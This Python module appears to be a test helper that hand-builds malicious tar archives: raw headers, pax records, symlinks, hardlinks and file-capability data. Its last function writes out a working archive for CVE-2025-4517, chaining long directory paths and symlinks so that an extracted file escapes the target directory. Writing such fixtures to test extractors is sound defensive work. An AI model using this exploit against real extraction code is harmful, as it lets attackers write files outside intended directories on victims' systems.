"""Archives that somebody made to do harm, block by block: no tool writes them."""

import os
import struct
from collections.abc import Mapping

BLOCK = 512
END = bytes(2 * BLOCK)
MINE = os.geteuid()


def header(
    name: bytes = b"a",
    kind: bytes = b"0",
    *,
    size: int | bytes = 0,
    link: bytes = b"",
    mode: int = 0o644,
    uid: int | bytes = MINE,
    device: tuple[int, int] = (0, 0),
    magic: bytes = b"ustar\x0000",
    prefix: bytes = b"",
    tail: bytes = b"",
) -> bytes:
    """`size`, `uid` as bytes: the raw field. `tail`: instead of what follows the device numbers."""
    fields = b"".join(
        (
            name[:100].ljust(100, b"\0"),
            octal(mode, 8),
            uid.ljust(8, b"\0") if isinstance(uid, bytes) else octal(uid, 8),
            octal(MINE, 8),
            size.ljust(12, b"\0") if isinstance(size, bytes) else octal(size, 12),
            octal(1_577_836_800, 12),
            b" " * 8,
            kind,
            link[:100].ljust(100, b"\0"),
            magic,
            b"root".ljust(32, b"\0") * 2,
            octal(device[0], 8),
            octal(device[1], 8),
            (tail or prefix).ljust(155, b"\0"),
        )
    ).ljust(BLOCK, b"\0")
    return fields[:148] + b"%06o\0 " % sum(fields) + fields[156:]


def octal(number: int, width: int) -> bytes:
    return b"%0*o\0" % (width - 1, number)


def file(name: bytes = b"a", content: bytes = b"", *, mode: int = 0o644, uid: int | bytes = MINE) -> bytes:
    return header(name, size=len(content), mode=mode, uid=uid) + padded(content)


def directory(name: bytes, mode: int = 0o755) -> bytes:
    return header(name, b"5", mode=mode)


def symlink(name: bytes, to: bytes) -> bytes:
    return header(name, b"2", link=to)


def hardlink(name: bytes, to: bytes) -> bytes:
    return header(name, b"1", link=to)


def padded(content: bytes) -> bytes:
    return content + bytes(-len(content) % BLOCK)


def pax(records: Mapping[bytes, bytes], kind: bytes = b"x") -> bytes:
    return raw_pax(b"".join(record(key, value) for key, value in records.items()), kind)


def raw_pax(body: bytes, kind: bytes = b"x") -> bytes:
    return header(b"pax", kind, size=len(body)) + padded(body)


def record(key: bytes, value: bytes) -> bytes:
    length = len(key) + len(value) + 3
    while length != len(str(length)) + len(key) + len(value) + 3:
        length = len(str(length)) + len(key) + len(value) + 3
    return b"%d %s=%s\n" % (length, key, value)


def long_name(name: bytes, kind: bytes = b"L") -> bytes:
    return header(b"././@LongLink", kind, size=len(name) + 1, magic=b"ustar  \0") + padded(name + b"\0")


def archive(*members: bytes) -> bytes:
    return b"".join(members) + END


def capability(version: int, root: int = 0) -> bytes:
    """cap_net_raw=ep, as linux/capability.h has it."""
    data = struct.pack("<IIIII", version << 24 | 1, 1 << 13, 0, 0, 0)
    return data + (struct.pack("<I", root) if version == 3 else b"")


def links_beyond_realpath() -> bytes:
    """CVE-2025-4517: directories and links to them until the real path is longer than realpath(3) can tell, then a
    link from there to outside, and a file through it."""
    name, at, members = b"d" * 200, b"", []
    for step in b"abcdefghijklmnop":
        members += [
            pax({b"path": at + name}) + directory(b"d"),
            pax({b"path": at + bytes([step])}) + symlink(b"l", name),
        ]
        at += name + b"/"
    way = b"/".join(bytes([one]) for one in b"abcdefghijklmnop") + b"/" + b"l" * 254
    members += [pax({b"path": way}) + symlink(b"l", b"../" * 16), symlink(b"escape", way[:90] + b"/../../outside")]
    return archive(*members, file(b"escape/pwned", b"x"))
